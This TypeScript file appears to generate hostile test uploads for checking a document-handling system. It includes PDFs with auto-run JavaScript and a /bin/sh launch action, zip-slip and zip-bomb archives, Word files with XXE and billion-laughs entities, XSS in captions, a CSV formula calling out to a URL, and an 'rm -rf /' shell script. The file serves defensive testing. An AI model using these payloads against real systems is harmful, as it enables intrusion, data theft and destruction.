import { deflateSync } from 'node:zlib'
import { makeZip, type ZipEntry } from '../make-zip.ts'
import { type Bait, HIDDEN, type Kind } from './kind.ts'

const kind = (as: string, what: string, make: Kind['make']): Kind => ({ as, what, make })

/** A PDF of one page, with additions to its catalogue. */
function paper(more: string, ...objects: string[]): Buffer {
  const all = [
    `<< /Type /Catalog /Pages 2 0 R ${more} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
    ...objects,
  ]
  const body = all.map((object, at) => `${at + 1} 0 obj\n${object}\nendobj\n`).join('')
  return Buffer.from(`%PDF-1.7\n${body}trailer << /Root 1 0 R /Size ${all.length + 1} >>\n%%EOF\n`, 'latin1')
}

const PDFS: Kind[] = [
  kind('pdf', 'a PDF that runs a script when it opens', (_, { script }) =>
    paper(`/OpenAction << /S /JavaScript /JS (app.alert\\(1\\);${script}) >>`),
  ),
  kind('pdf', 'a PDF that starts a program', () => paper('/OpenAction << /S /Launch /F (/bin/sh) >>')),
  kind('pdf', 'a PDF that leads elsewhere', (_, { url }) => paper(`/OpenAction << /S /URI /URI (${url}/pdf) >>`)),
  kind('pdf', 'a PDF that sends a form elsewhere', (_, { url }) =>
    paper(`/OpenAction << /S /SubmitForm /F (${url}/form) >> /AcroForm << /XFA (<xdp/>) >>`),
  ),
  kind('pdf', 'a PDF with a page embedded', (_, { script }) =>
    paper(
      '/Names << /EmbeddedFiles << /Names [(a.html) 4 0 R] >> >>',
      '<< /Type /Filespec /F (a.html) /EF << /F 5 0 R >> >>',
      `<< /Length 99 >>\nstream\n<script>${script}</script>\nendstream`,
    ),
  ),
  kind('pdf', 'a PDF with a table of a million places', () =>
    Buffer.concat([paper(''), Buffer.from(`xref\n0 4294967295\n${'0000000000 65535 f \n'.repeat(50_000)}%%EOF\n`)]),
  ),
  kind('pdf', 'a PDF whose pages go round', () => paper('/Pages 1 0 R /Kids [1 0 R]')),
  kind('pdf', 'a PDF with a stream that unpacks to 200 MB', () =>
    Buffer.concat([
      paper('').subarray(0, -6),
      Buffer.from('9 0 obj\n<< /Filter /FlateDecode >>\nstream\n'),
      deflateSync(Buffer.alloc(200_000_000)),
      Buffer.from('\nendstream\nendobj\n%%EOF\n'),
    ]),
  ),
  kind('pdf', 'a PDF that is a page as well', (_, { script }) =>
    Buffer.concat([Buffer.from(`%PDF-1.4\n<!doctype html><script>${script}</script>\n`), paper('')]),
  ),
  kind('pdf', 'a PDF with a page behind it', (_, { script }) =>
    Buffer.concat([paper(''), Buffer.from(`<html><body onload="${script}">`)]),
  ),
  kind('pdf', 'a PDF of its first line alone', () => Buffer.from('%PDF-1.7\n')),
  kind('pdf', 'a PDF behind a page', (_, { script }) =>
    Buffer.concat([Buffer.from(`<script>${script}</script>`), paper('')]),
  ),
]

const zip = (what: string, entries: (bait: Bait) => ZipEntry[]): Kind =>
  kind('zip', what, (_, bait) => makeZip(entries(bait)))
const WORD: ZipEntry[] = [
  { name: '[Content_Types].xml', content: '<Types/>' },
  { name: 'word/document.xml', content: `<w:document>${HIDDEN}</w:document>` },
]
const word = (what: string, more: (bait: Bait) => ZipEntry[]): Kind =>
  kind('docx', what, (_, bait) => makeZip([...WORD, ...more(bait)]))

const ARCHIVES: Kind[] = [
  zip('an archive that leaves its folder', () => [{ name: '../../../storage/public/x.html', content: 'x' }]),
  zip('an archive that leaves its folder the Windows way', () => [{ name: '..\\..\\x.html', content: 'x' }]),
  zip('an archive with a file at the root', () => [{ name: '/etc/cron.d/x', content: 'x' }]),
  zip('an archive with a drive', () => [{ name: 'C:/Windows/x.dll', content: 'x' }]),
  zip('an archive with NUL in a name', () => [{ name: 'scan.png\0.html', content: 'x' }]),
  zip('an archive with a name that reads backwards', () => [{ name: 'scan\u202egnp.exe', content: 'x' }]),
  zip('an archive with a link', ({ path }) => [{ name: 'a', content: path, mode: 0o120777 }]),
  zip('an archive with a name twice', () => [
    { name: 'a', content: 'one' },
    { name: 'a', content: 'two' },
  ]),
  zip('an archive that unpacks to 300 MB', () => [{ name: 'a', content: Buffer.alloc(300_000_000) }]),
  zip('an archive that lies of its size', () => [{ name: 'a', content: Buffer.alloc(5_000_000), size: 10 }]),
  zip('an archive that lies of its sum', () => [{ name: 'a', content: 'one', crc: 7 }]),
  zip('an archive of archives', () => {
    const inner = makeZip([{ name: 'a', content: Buffer.alloc(20_000_000) }])
    return Array.from({ length: 50 }, (_, at) => ({ name: `${at}.zip`, content: inner }))
  }),
  zip('an archive of entries that lie on each other', () => [
    { name: 'a', content: Buffer.alloc(100_000) },
    ...Array.from({ length: 900 }, (_, at) => ({ name: `${at}`, content: Buffer.alloc(100_000), overlaps: true })),
  ]),
  zip('an archive of 5,000 names', () => Array.from({ length: 5000 }, (_, at) => ({ name: `${at}` }))),
  zip('an archive with a password', () => [{ name: 'a', content: 'x', flags: 1 }]),
  zip('an archive of pages and programs', ({ script }) => [
    { name: 'index.html', content: `<script>${script}</script>` },
    { name: 'run.exe', content: 'MZ' },
  ]),
  kind('zip', 'an archive behind a page', (_, { script }) =>
    Buffer.concat([Buffer.from(`<script>${script}</script>`), makeZip([{ name: 'a', content: 'x' }])]),
  ),
  kind('zip', 'an archive without its end', () => makeZip([{ name: 'a', content: 'x'.repeat(5000) }]).subarray(0, -20)),
  kind('zip', 'an end of an archive alone', () => makeZip([])),
  word('a Word document with macros', () => [{ name: 'word/vbaProject.bin', content: 'x' }]),
  word('a Word document with a template from elsewhere', ({ url }) => [
    {
      name: 'word/_rels/settings.xml.rels',
      content: `<Relationships><Relationship TargetMode="External" Target="${url}/template.dotm"/></Relationships>`,
    },
  ]),
  word('a Word document that names a file', ({ path }) => [
    { name: 'word/settings.xml', content: `<!DOCTYPE x [<!ENTITY y SYSTEM "file://${path}">]><x>&y;</x>` },
  ]),
  word('a Word document of a billion laughs', () => [
    {
      name: 'word/styles.xml',
      content: `<!DOCTYPE x [<!ENTITY a "ha">${Array.from({ length: 30 }, (_, at) => `<!ENTITY a${at} "&a;&a;">`).join('')}]><x/>`,
    },
  ]),
]

const text = (what: string, content: (bait: Bait) => string | Buffer): Kind =>
  kind('text', what, (_, bait) => Buffer.from(content(bait) as string))
const vtt = (what: string, content: (bait: Bait) => string): Kind =>
  kind('vtt', what, (_, bait) => Buffer.from(content(bait)))
const CUE = '00:00.000 --> 00:01.000'

const TEXTS: Kind[] = [
  vtt(
    'captions with scripts',
    ({ script }) => `WEBVTT\n\n${CUE}\n<script>${script}</script><img src=x onerror="${script}">\n`,
  ),
  vtt(
    'captions with styles from elsewhere',
    ({ url }) => `WEBVTT\n\nSTYLE\n::cue { background: url(${url}/css) }\n\n${CUE}\nLiver\n`,
  ),
  vtt('captions of one line of a megabyte', () => `WEBVTT\n\n${CUE}\n${'x'.repeat(900_000)}\n`),
  vtt('captions of 20,000 lines', () => `WEBVTT\n\n${`${CUE}\nx\n\n`.repeat(20_000)}`),
  vtt(
    'captions with times that never end',
    () => `WEBVTT\n\n${'00:'.repeat(100_000)}00.000 --> ${'0'.repeat(100_000)}\nx\n`,
  ),
  vtt('captions that are a page', ({ script }) => `WEBVTT <!doctype html><script>${script}</script>\n\n${CUE}\nx\n`),
  vtt('captions with NUL', () => `WEBVTT\n\n${CUE}\na\0b\n`),
  text('a page', ({ script }) => `<!doctype html><script>${script}</script>`),
  text('a page in UTF-16', ({ script }) => Buffer.from(`\ufeff<script>${script}</script>`, 'utf16le')),
  text('a script', ({ script }) => script),
  text('a table of formulas', ({ url }) => `=HYPERLINK("${url}/csv"),+1+1,@SUM(1)\n"bare " quote",\0\n`),
  text('a shell script', () => '#!/bin/sh\nrm -rf /\n'),
  text('a program', () => Buffer.from('MZ\x90\0\x03', 'latin1')),
  text('nothing', () => ''),
  text('one byte', () => '\0'),
  text('a megabyte of zeros', () => Buffer.alloc(1_000_000)),
]

export const PAPERS: Kind[] = [...PDFS, ...ARCHIVES, ...TEXTS]
export const plainPaper = (): Buffer => paper('/Lang (en)')
export const plainArchive = (): Buffer => makeZip([{ name: 'report.txt', content: 'x'.repeat(5000) }, ...WORD])
